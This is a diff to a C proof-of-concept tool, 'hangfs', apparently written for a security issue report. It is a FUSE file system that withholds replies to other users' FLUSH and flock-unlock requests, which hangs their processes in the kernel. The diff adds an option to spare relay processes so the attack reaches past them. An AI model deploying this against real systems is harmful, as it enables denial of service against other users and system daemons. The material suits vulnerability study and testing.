@@ -1,11 +1,13 @@
 // A FUSE file system that never answers another user's FLUSH or flock unlock (issue 26).
 //
-// usage: hangfs MOUNTPOINT
+// usage: hangfs MOUNTPOINT [SPARED-PID...]
 //
 // Any user may mount it (fusermount3). It holds one file, `f`. Requests of the user who mounted
 // it are answered, so the attacker can open, lock and close its own copies; a FLUSH or a flock
 // unlock that comes from any other user is never answered, so the process that closes a passed
-// descriptor waits in the kernel for as long as this program runs.
+// descriptor waits in the kernel for as long as this program runs. Requests from a SPARED-PID
+// (any of its threads) are answered too: an attacker who aims past a relay (a bus daemon that
+// hands the descriptor on and closes its own copy) leaves the relay running.
 //
 // Lines out: `mounted`, then `held flush uid U pid P` / `held unlock uid U pid P` for every
 // request it keeps. It ends on SIGTERM, SIGINT or SIGHUP (the kernel then fails what it held).
@@ -13,6 +15,7 @@
 #include <fuse_lowlevel.h>
 #include <errno.h>
 #include <stdio.h>
+#include <stdlib.h>
 #include <string.h>
 #include <sys/file.h>
 #include <sys/stat.h>
@@ -20,6 +23,8 @@
 
 static const char contents[] = "hang\n";
 static uid_t owner;
+static pid_t spared[16];
+static int nspared;
 
 static void fill(fuse_ino_t ino, struct stat *st) {
     memset(st, 0, sizeof *st);
@@ -36,7 +41,27 @@ static void fill(fuse_ino_t ino, struct stat *st) {
     }
 }
 
-static int from_owner(fuse_req_t req) { return fuse_req_ctx(req)->uid == owner; }
+// The process a thread belongs to (Tgid in /proc/TID/status); the thread itself when unreadable.
+static pid_t process_of(pid_t tid) {
+    char path[64], line[256];
+    snprintf(path, sizeof path, "/proc/%d/status", (int)tid);
+    FILE *f = fopen(path, "r");
+    if (f == NULL) return tid;
+    pid_t tgid = tid;
+    while (fgets(line, sizeof line, f) != NULL) {
+        if (sscanf(line, "Tgid: %d", &tgid) == 1) break;
+    }
+    fclose(f);
+    return tgid;
+}
+
+static int from_owner(fuse_req_t req) {
+    const struct fuse_ctx *c = fuse_req_ctx(req);
+    if (c->uid == owner) return 1;
+    pid_t p = process_of(c->pid);
+    for (int i = 0; i < nspared; i++) if (spared[i] == p) return 1;
+    return 0;
+}
 
 static void held(const char *what, fuse_req_t req) {
     const struct fuse_ctx *c = fuse_req_ctx(req);
@@ -100,8 +125,12 @@ static const struct fuse_lowlevel_ops ops = {
 };
 
 int main(int argc, char **argv) {
-    if (argc != 2) { fprintf(stderr, "usage: hangfs MOUNTPOINT\n"); return 2; }
+    if (argc < 2 || argc - 2 > (int)(sizeof spared / sizeof spared[0])) {
+        fprintf(stderr, "usage: hangfs MOUNTPOINT [SPARED-PID...]\n");
+        return 2;
+    }
     owner = getuid();
+    for (int i = 2; i < argc; i++) spared[nspared++] = (pid_t)atoi(argv[i]);
     char *args[] = { argv[0], "-o", "fsname=hangfs,subtype=hangfs", NULL };
     struct fuse_args fa = FUSE_ARGS_INIT(3, args);
     struct fuse_session *se = fuse_session_new(&fa, &ops, sizeof ops, NULL);
